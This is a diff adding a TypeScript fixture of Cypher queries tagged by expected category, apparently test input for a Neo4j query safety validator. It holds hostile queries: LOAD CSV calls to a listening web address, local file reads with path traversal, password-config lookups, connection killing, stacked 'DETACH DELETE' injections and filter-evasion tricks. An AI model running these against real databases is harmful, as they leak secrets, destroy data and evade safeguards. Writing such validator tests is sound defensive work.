@@ -1,0 +1,126 @@
+import { all, escaped, type Attempt } from './attempt.ts';
+
+/** @param web an address that listens @param file one that can be read */
+export function reachesOut(web: string, file: string): Attempt[] {
+  return [
+    ...all('reaches-out', [
+      `LOAD CSV FROM '${web}/a' AS line RETURN line`,
+      `LOAD CSV WITH HEADERS FROM '${web}/b' AS line RETURN line`,
+      `LOAD CSV FROM 'file://${file}' AS line RETURN line`,
+      `LOAD CSV FROM 'file:///../../../../..${file}' AS line RETURN line`,
+      `LOAD CSV FROM '${web.replace('http', 'https')}/c' AS line RETURN line`,
+      `LOAD CSV FROM '${web.replace('http', 'ftp')}/d' AS line RETURN line`,
+      `LOAD CSV FROM 'jar:${web}/e.jar!/x' AS line RETURN line`,
+      `load\n\tcsv from "${web}/f" AS line RETURN line`,
+      `LOAD/**/CSV/**/FROM '${web}/g' AS line RETURN line`,
+      `LOAD\u00a0CSV FROM '${web}/h' AS line RETURN line`,
+      `MATCH (a:Actor) WITH collect(a.name) AS names LOAD CSV FROM '${web}/' + names[0] AS line RETURN line`,
+      `CALL () { LOAD CSV FROM '${web}/i' AS line RETURN line } RETURN line`,
+      `RETURN 1 AS line UNION LOAD CSV FROM '${web}/j' AS line RETURN line`,
+      `RETURN COLLECT { LOAD CSV FROM '${web}/k' AS line RETURN line } AS x`,
+      `RETURN [x IN [1] | COLLECT { LOAD CSV FROM '${web}/l' AS line RETURN line }] AS x`,
+      `MATCH (a) WHERE any(x IN [1] WHERE EXISTS { LOAD CSV FROM '${web}/m' AS l RETURN l }) RETURN a`,
+      `RETURN CASE WHEN COUNT { LOAD CSV FROM '${web}/n' AS l RETURN l } > 0 THEN 1 END AS x`,
+      `${escaped('LOAD CSV')} FROM '${web}/o' AS line RETURN line`,
+      `L${escaped('OA')}D CSV FROM '${web}/p' AS line RETURN line`,
+      `LOAD CSV FROM '${web}/q' AS line FIELDTERMINATOR ';' CREATE (n:Hacked) RETURN n`,
+      `EXPLAIN LOAD CSV FROM '${web}/r' AS line RETURN line`,
+      `MATCH (n) RETURN n LIMIT COUNT { LOAD CSV FROM '${web}/s' AS l RETURN l }`,
+    ]),
+    {
+      text: 'LOAD CSV FROM $url AS line RETURN line',
+      parameters: { url: `${web}/t` },
+      answer: 'reaches-out',
+    },
+    ...all('procedure', [
+      `CALL apoc.load.json('${web}/u') YIELD value RETURN value`,
+      `CALL apoc.load.csv('file://${file}') YIELD list RETURN list`,
+      `CALL apoc.export.csv.all('hacked.csv', {}) YIELD file RETURN file`,
+      `CALL db.stats.retrieve('QUERIES') YIELD data RETURN data`,
+    ]),
+    ...all('function', [
+      'RETURN file() AS f',
+      'RETURN linenumber() AS l',
+      'RETURN `file`() AS f',
+      'RETURN FILE () AS f',
+    ]),
+  ];
+}
+
+export const elsewhere: Attempt[] = all('elsewhere', [
+  'USE system SHOW USERS',
+  'USE system MATCH (n) RETURN n',
+  'USE neo4j MATCH (n) RETURN n',
+  'USE `system` RETURN 1 AS x',
+  "USE graph.byName('system') MATCH (n) RETURN n",
+  'CALL () { USE system MATCH (n) RETURN n } RETURN n',
+  'RETURN 1 AS x UNION USE system RETURN 1 AS x',
+  '/* */ use system CALL dbms.components() YIELD name RETURN name',
+]);
+
+export const procedures: Attempt[] = [
+  ...all('procedure', [
+    'CALL db.clearQueryCaches()',
+    'CALL db.clearQueryCaches',
+    'CALL tx.setMetaData({relataQuery: "x"})',
+    'CALL tx.getMetaData() YIELD metadata RETURN metadata',
+    "CALL dbms.killConnection('bolt-1')",
+    "CALL dbms.killConnections(['bolt-1', 'bolt-2'])",
+    'CALL dbms.listConnections() YIELD connectionId AS id RETURN id',
+    'CALL dbms.listConfig() YIELD name, value RETURN name, value',
+    "CALL dbms.listConfig('password') YIELD name RETURN name",
+    "CALL dbms.queryJmx('java.lang:*') YIELD attributes RETURN attributes",
+    'CALL dbms.showCurrentUser() YIELD username RETURN username',
+    'CALL dbms.components() YIELD name RETURN name',
+    'CALL dbms.upgrade()',
+    "CALL db.createLabel('Hacked')",
+    "CALL db.createProperty('hacked')",
+    "CALL db.createRelationshipType('HACKED')",
+    "CALL db.index.vector.createNodeIndex('x', 'Actor', 'v', 3, 'cosine')",
+    "MATCH (n:Actor) CALL db.create.setNodeVectorProperty(n, 'v', [1.0]) RETURN n",
+    "CALL db.resampleIndex('names')",
+    'CALL db.prepareForReplanning()',
+    'CALL db.awaitIndexes(600)',
+    "CALL db.stats.collect('QUERIES', {})",
+    'CALL `dbms`.`listConfig`() YIELD name RETURN name',
+    'CALL dbms . listConfig ( ) YIELD name RETURN name',
+    'CALL /* db.labels */ dbms./* */listConfig() YIELD name RETURN name',
+    'OPTIONAL CALL dbms.listConfig() YIELD name RETURN name',
+    `${escaped('CALL')} dbms.listConfig() YIELD name RETURN name`,
+    `CALL dbms.list${escaped('C')}onfig() YIELD name RETURN name`,
+    'CALL () { CALL dbms.listConfig() YIELD name RETURN name } RETURN name',
+    'RETURN COLLECT { CALL dbms.listConfig() YIELD name RETURN name } AS x',
+    "RETURN [x IN [1] | COLLECT { CALL dbms.killConnection('x') YIELD message RETURN message }] AS x",
+    'MATCH (a) WHERE all(x IN [1] WHERE EXISTS { CALL db.clearQueryCaches() YIELD value RETURN value }) RETURN a',
+    'CALL DBMS.LISTCONFIG() YIELD name RETURN name',
+    'CALL apoc.cypher.doIt("CREATE (n)", {}) YIELD value RETURN value',
+  ]),
+  ...all('function', [
+    'RETURN apoc.cypher.runFirstColumnSingle("MATCH (n) RETURN n", {}) AS x',
+    'RETURN `apoc`.`util`.`sha1`([1]) AS x',
+    "RETURN graph.byName('system') AS x",
+    'RETURN {a: apoc.util.sleep(100000)} AS x',
+    'RETURN [1, 2, 3][apoc.number.exact.add("1", "2")..2] AS x',
+    'RETURN hacked() AS x',
+  ]),
+];
+
+export const severalOrOptions: Attempt[] = [
+  ...all('several', [
+    'RETURN 1 AS x; CREATE (n:Hacked)',
+    'RETURN 1 AS x; RETURN 2 AS x',
+    'RETURN 1 AS x;;',
+    "RETURN ';' AS x; MATCH (n) DETACH DELETE n;",
+    `RETURN 1 AS x${escaped(';')} CREATE (n:Hacked)`,
+    `RETURN 'a${escaped("'")} AS x; CREATE (n:Hacked {a: ''})`,
+    'RETURN 1 AS x; // \nCREATE (n:Hacked)',
+  ]),
+  ...all('option', [
+    'CYPHER 5 MATCH (n) RETURN n',
+    'CYPHER runtime=pipelined MATCH (n) RETURN n',
+    'EXPLAIN EXPLAIN RETURN 1 AS x',
+    'EXPLAIN PROFILE CREATE (n:Hacked)',
+    'PROFILE CYPHER replan=force RETURN 1 AS x',
+    `${escaped('CYPHER')} planner=dp RETURN 1 AS x`,
+  ]),
+];
